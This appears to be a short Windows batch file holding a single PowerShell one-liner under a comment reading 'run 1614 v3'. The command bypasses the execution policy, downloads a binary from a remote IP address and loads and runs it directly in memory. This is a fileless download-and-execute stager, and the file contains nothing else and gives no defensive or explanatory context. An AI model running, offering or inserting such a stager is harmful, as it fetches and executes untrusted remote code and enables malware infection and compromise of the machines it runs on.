REM run 1614 v3
powershell -ep bypass -c "$d=(New-Object Net.WebClient).DownloadData('http://198.51.100.9/p.bin');[Reflection.Assembly]::Load($d).EntryPoint.Invoke($null,$null)"
